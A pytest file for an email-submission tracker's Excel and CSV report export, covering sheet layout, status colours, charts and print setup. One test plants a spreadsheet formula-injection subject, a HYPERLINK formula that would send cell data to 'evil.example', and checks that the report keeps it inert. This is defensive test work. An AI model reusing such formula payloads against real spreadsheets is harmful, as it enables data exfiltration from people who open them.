"""`report --xlsx` / `--csv`: the workbook staff open, checked cell by cell.

(Named test_workbook.py: tests/test_report.py holds the report *check* tests.)"""

from __future__ import annotations

import csv
import zipfile
from datetime import UTC, datetime

import openpyxl
import pytest
from fixtures.files import DEFAULT_FIGURES, convert, make_report_docx, make_sheet_xlsx
from fixtures.mail import build_mail

from reconcile.report import display_width

BEFORE = datetime(2022, 6, 20, 2, 30, tzinfo=UTC)
AFTER = datetime(2022, 6, 27, 1, 0, tzinfo=UTC)


@pytest.fixture
def filled(campaign, tmp_path, media):
    def send(from_, files, when=BEFORE, subject="科技活动周材料"):
        campaign.deliver(
            build_mail(from_=from_, subject=subject, attachments=[(n, p.read_bytes()) for n, p in files]),
            when=when,
        )

    send(
        "太原市科学技术局 <tykjj@taiyuan.gov.cn>",
        [
            ("统计表.xlsx", make_sheet_xlsx(tmp_path / "a.xlsx")),
            ("总结报告.docx", make_report_docx(tmp_path / "a.docx")),
            ("视频.mp4", media.video(60)),
        ],
    )
    send(
        "山西大学 <kjc@sxu.edu.cn>",
        [
            (
                "统计表.xlsx",
                make_sheet_xlsx(
                    tmp_path / "b.xlsx",
                    unit="山西大学",
                    figures={**DEFAULT_FIGURES, "活动总数": 3, "线上活动": 1, "线下活动": 2},
                ),
            ),
            ("视频.mp4", media.video(200)),
        ],
        when=AFTER,
    )
    send("陌生人 <who@example.org>", [], subject="请问材料怎么报")
    campaign.run("ingest", "--once")
    campaign.run("exempt", "sxas", "--note", "不参加")
    return campaign


def _fill(cell) -> str:
    return (cell.fill.fgColor.rgb or "")[-6:] if cell.fill and cell.fill.fill_type == "solid" else ""


def test_workbook_contents(filled, tmp_path):
    path = tmp_path / "out" / "报送情况.xlsx"
    filled.run("report", "--xlsx", str(path))
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["汇总", "进度", "单位情况", "收件明细", "统计汇总", "未匹配邮件"]

    units = wb["单位情况"]
    header = [c.value for c in units[1]]
    assert header[:6] == ["序号", "单位编号", "单位名称", "类别", "状态", "逾期"]
    assert all(c.font.bold for c in units[1]) and units.freeze_panes == "A2"
    assert units.auto_filter.ref == f"A1:{units.cell(row=1, column=len(header)).column_letter}13"
    rows = {r[1].value: r for r in units.iter_rows(min_row=2)}
    col = {h: i for i, h in enumerate(header)}
    ty, sxu, sxas = rows["taiyuan-kjj"], rows["sxu"], rows["sxas"]
    assert ty[col["状态"]].value == "齐全" and _fill(ty[col["视频"]]) == "C6EFCE"
    assert sxu[col["视频"]].value == "不合格（逾期）" and _fill(sxu[col["视频"]]) == "FFC7CE"
    assert sxu[col["视频说明"]].value == "视频时长3:20，超过3:00的限制"  # in Chinese
    assert sxu[col["逾期"]].value == "逾期"
    assert sxu[col["总结报告"]].value == "未收到" and _fill(sxu[col["总结报告"]]) == "FFEB9C"
    assert sxas[col["状态"]].value == "免报" and "不参加" in sxas[col["人工处理"]].value
    # 收件明细: which file counted, when it came and who sent it
    arrivals = wb["收件明细"]
    header = [c.value for c in arrivals[1]]
    sxu = next(r for r in arrivals.iter_rows(min_row=2, values_only=True) if r[1] == "sxu")
    assert (sxu[header.index("视频文件")], sxu[header.index("视频收到时间")]) == (
        "视频.mp4",
        "2022-06-27 09:00",
    )
    assert sxu[header.index("视频发件来源")] == "登记邮箱" and sxu[header.index("总结报告发件来源")] is None
    assert sxu[header.index("邮箱")] == "kjc@sxu.edu.cn" and sxu[header.index("总结报告文件")] is None
    # CJK text gets room: the longest name (counted double) fits its column, or wraps in a row
    # tall enough for its lines
    longest = "山西转型综合改革示范区管理委员会"
    (cell,) = [r[col["单位名称"]] for r in units.iter_rows(min_row=2) if r[col["单位名称"]].value == longest]
    width = units.column_dimensions[cell.column_letter].width
    lines = -(-display_width(longest) // int(width - 1))
    assert width >= display_width(longest) or (
        cell.alignment.wrap_text and units.row_dimensions[cell.row].height >= 13 * lines
    )

    stats = wb["统计汇总"]
    srows = [[c.value for c in r] for r in stats.iter_rows()]
    assert srows[0][:5] == ["单位编号", "单位名称", "类别", "填报单位（表内）", "活动总数（项）"]
    total = next(r for r in srows if r[0] == "全省合计")
    assert total[4] == 15 and total[1] == "2 个单位"
    assert next(c for c in stats.iter_rows() if c[0].value == "全省合计")[4].font.bold
    left = [r for r in srows if r[0] == "datong-kjj"]
    assert left and left[0][3] == "未收到统计表"

    unmatched = [[c.value for c in r] for r in wb["未匹配邮件"].iter_rows(min_row=2)]
    assert len(unmatched) == 1 and unmatched[0][2] == "陌生人 <who@example.org>"
    assert unmatched[0][3] == "请问材料怎么报" and "unknown sender" in unmatched[0][5]

    summary = {r[0]: r[1] for r in wb["汇总"].iter_rows(values_only=True) if r and r[0]}
    assert (summary["齐全"], summary["不齐全"], summary["未报送"], summary["其中逾期"], summary["免报"]) == (
        1,
        1,
        9,
        1,
        1,
    )
    assert summary["齐全"] + summary["不齐全"] + summary["未报送"] + summary["免报"] == summary["合计"] == 12


def test_csv_files_open_in_excel(filled, tmp_path):
    out = tmp_path / "csv"
    filled.run("report", "--csv", str(out))
    assert sorted(p.name for p in out.iterdir()) == sorted(
        ["汇总.csv", "进度.csv", "单位情况.csv", "收件明细.csv", "统计汇总.csv", "未匹配邮件.csv"]
    )
    raw = (out / "单位情况.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0][2] == "单位名称" and rows[1][2] == "太原市科学技术局"


def test_report_needs_a_target(campaign):
    assert "--xlsx" in campaign.run("report", expect=2).stderr


@pytest.mark.slow
def test_workbook_converts_to_pdf(filled, tmp_path, libreoffice):
    path = tmp_path / "report.xlsx"
    filled.run("report", "--xlsx", str(path))
    from pypdf import PdfReader

    reader = PdfReader(convert(path, "pdf"))
    assert len(reader.pages) >= 5  # every sheet printed
    text = "".join(page.extract_text() or "" for page in reader.pages)
    assert "taiyuan-kjj" in text
    sizes = printed_text_sizes(reader)
    assert {page for page, _, _ in sizes} == set(range(1, len(reader.pages) + 1))
    small = [(page, round(size, 1), words) for page, size, words in sizes if size < 8]
    assert small == [], "text printed smaller than 8 pt"
    # every page says which campaign and which page it is
    for n, page in enumerate(reader.pages, start=1):
        page_text = page.extract_text()
        assert "2022年山西省科技活动周" in page_text and f"第 {n} 页，共 {len(reader.pages)} 页" in page_text


def printed_text_sizes(reader) -> list[tuple[int, float, str]]:
    """(page, size in pt as printed, text) for every piece of text: the font size times the scale
    of the text and current transformation matrices (what fitting a sheet to a page shrinks)."""

    def times(a, b):
        return [
            a[0] * b[0] + a[1] * b[2],
            a[0] * b[1] + a[1] * b[3],
            a[2] * b[0] + a[3] * b[2],
            a[2] * b[1] + a[3] * b[3],
        ]

    out = []
    for n, page in enumerate(reader.pages, start=1):

        def visit(text, cm, tm, font, size, n=n):
            if text.strip():
                m = times(tm, cm)
                out.append((n, size * abs(m[0] * m[3] - m[1] * m[2]) ** 0.5, text.strip()))

        page.extract_text(visitor_text=visit)
    return out


def test_workbook_has_a_progress_chart_and_prints_on_a4(filled, tmp_path):
    path = tmp_path / "report.xlsx"
    filled.run("report", "--xlsx", str(path))
    wb = openpyxl.load_workbook(path)
    progress = wb["进度"]
    assert [c.value for c in progress[1]] == ["日期", "齐全", "不齐全", "未报送", "当日来信"]
    days = [r for r in progress.iter_rows(min_row=2, values_only=True)]
    assert (
        days[0][0] == "2022-06-20" and days[-1][0] == "2022-06-27"
    )  # first arrival .. last (after the deadline)
    assert all(sum(d[1:4]) == 11 for d in days)  # every roster unit but the exempt one, every day
    assert list(days[-1][1:3]) == _complete_incomplete(filled)  # the last day is today's conclusion
    messages = filled.run("messages", "--json").json
    assert sum(d[4] for d in days) == sum(m["disposition"] in ("attributed", "unmatched") for m in messages)
    with zipfile.ZipFile(path) as z:  # a native chart (openpyxl does not read charts back)
        chart = z.read("xl/charts/chart1.xml").decode()
    assert "<barChart>" in chart and "<lineChart>" in chart and "'进度'!$B$2:" in chart
    for ws in wb:
        assert int(ws.page_setup.paperSize) == 9  # A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1  # every column
        assert ws.page_setup.fitToHeight == 0  # rows flow onto as many pages as they need
        assert "&P" in ws.oddFooter.center.text and "2022年山西省科技活动周" in ws.oddHeader.center.text
    units = wb["单位情况"]
    assert units.page_setup.orientation == "landscape" and units.print_title_rows == "$1:$1"
    assert wb["汇总"].page_setup.orientation == "portrait"


def _complete_incomplete(campaign) -> list[int]:
    rows = campaign.run("status", "--json").json
    return [sum(r["state"] == s for r in rows) for s in ("complete", "incomplete")]


def test_workbook_explains_in_chinese_and_notes_what_stats_flag(campaign, tmp_path, media):
    ty = "太原市科学技术局 <tykjj@taiyuan.gov.cn>"
    sheet = make_sheet_xlsx(tmp_path / "a.xlsx", omit=["投入经费"])
    campaign.deliver(
        build_mail(
            from_=ty,
            attachments=[("统计表.xlsx", sheet.read_bytes()), ("视频.mp4", media.video(60).read_bytes())],
        ),
        when=BEFORE,
    )
    campaign.deliver(
        build_mail(from_=ty, attachments=[("视频（新）.mp4", media.fake_mp4.read_bytes())]), when=AFTER
    )
    campaign.run("ingest", "--once")
    campaign.run("accept", "taiyuan-kjj", "statistics", "--note", "经费另报")
    path = tmp_path / "报送情况.xlsx"
    campaign.run("report", "--xlsx", str(path))
    wb = openpyxl.load_workbook(path)
    units = wb["单位情况"]
    header = [c.value for c in units[1]]
    row = next(r for r in units.iter_rows(min_row=2) if r[1].value == "taiyuan-kjj")
    video = row[header.index("视频说明")].value
    assert (
        row[header.index("视频")].value == "合格"
        and "之后发送的文件视频（新）.mp4（2022-06-27）未能读取" in video
    )
    assert "仍以之前的视频为准" in video
    srows = [[c.value for c in r] for r in wb["统计汇总"].iter_rows()]
    notes_heading = ["说明"] + [None] * (len(srows[0]) - 1)
    assert notes_heading in srows, srows
    texts = [r[0] for r in srows[srows.index(notes_heading) + 1 :] if r[0]]
    assert "太原市科学技术局：统计表经工作人员认定合格，但缺少投入经费，已计入现有数字" in texts
    left = {r[0]: r for r in srows if r and r[0] == "datong-kjj"}
    assert left["datong-kjj"][3] == "未收到统计表"


def test_a_senders_formula_stays_text_in_the_workbook_and_the_csv(campaign, tmp_path):
    """The mailbox is public: a subject or sender name that starts a formula must be shown, never
    run, when staff open the workbook or the CSV files in Excel or WPS."""
    evil_subject = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
    campaign.deliver(build_mail(from_="=1+1 <who@evil.example>", subject=evil_subject))
    campaign.run("ingest", "--once")
    book = tmp_path / "r.xlsx"
    campaign.run("report", "--xlsx", str(book))
    sheet = openpyxl.load_workbook(book)["未匹配邮件"]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    subject = next(c for c in cells if "HYPERLINK" in c.value)
    sender = next(c for c in cells if "who@evil.example" in c.value)
    assert (subject.value, subject.data_type) == (evil_subject, "s")
    assert sender.value.startswith("=1+1") and sender.data_type == "s"
    out = tmp_path / "csv"
    campaign.run("report", "--csv", str(out))
    rows = list(csv.reader((out / "未匹配邮件.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert "'" + evil_subject in rows[1] and rows[1][0].isdigit()


@pytest.fixture
def control_char_sheet(campaign, tmp_path, libreoffice):
    """A stranger's .xls whose 填报单位 names a roster unit followed by U+0001 (illegal in XML),
    ingested: the sheet names the unit, so its 填报单位 shows in the workbook's 统计汇总."""
    from fixtures.files import make_sheet_xls

    xls = make_sheet_xls(tmp_path / "统计表.xls", unit="大同市科学技术局\x01")
    mail = build_mail(from_="某人 <x@evil.example>", attachments=[("统计表.xls", xls.read_bytes())])
    campaign.deliver(mail, when=BEFORE)
    campaign.run("ingest", "--once")
    return campaign


def _sheet_unit_shown(wb) -> str:
    """统计汇总's 填报单位（表内） for 大同市科学技术局; no cell anywhere holds a control character."""
    texts = [c for ws in wb for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)]
    assert not [t for t in texts if any(ord(ch) < 32 and ch not in "\t\n\r" for ch in t)]
    (row,) = [r for r in wb["统计汇总"].iter_rows(values_only=True) if r[0] == "datong-kjj"]
    return row[3]


def test_control_characters_a_sender_wrote_never_break_the_workbook(control_char_sheet, tmp_path):
    """A workbook cell cannot hold U+0001 (openpyxl raises IllegalCharacterError): the character
    is dropped, the rest of the text stays, `report --xlsx` writes the workbook."""
    path = tmp_path / "r.xlsx"
    control_char_sheet.run("report", "--xlsx", str(path))
    assert _sheet_unit_shown(openpyxl.load_workbook(path)) == "大同市科学技术局"


def test_the_web_workbook_download_survives_control_characters(control_char_sheet):
    import io
    import urllib.request

    from test_web import serving

    with serving(control_char_sheet) as base, urllib.request.urlopen(base + "/report.xlsx", timeout=60) as r:
        assert r.status == 200
        assert _sheet_unit_shown(openpyxl.load_workbook(io.BytesIO(r.read()))) == "大同市科学技术局"
